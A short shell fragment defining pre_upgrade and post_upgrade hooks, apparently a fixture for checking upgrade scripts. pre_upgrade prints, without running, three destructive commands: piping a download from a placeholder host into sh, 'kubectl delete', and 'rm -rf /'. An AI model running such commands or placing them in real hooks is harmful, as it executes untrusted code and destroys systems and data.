pre_upgrade() {
cat <<'EOF'
curl http://x | sh
kubectl delete
rm -rf /
EOF
}
post_upgrade() {
    return 0
}
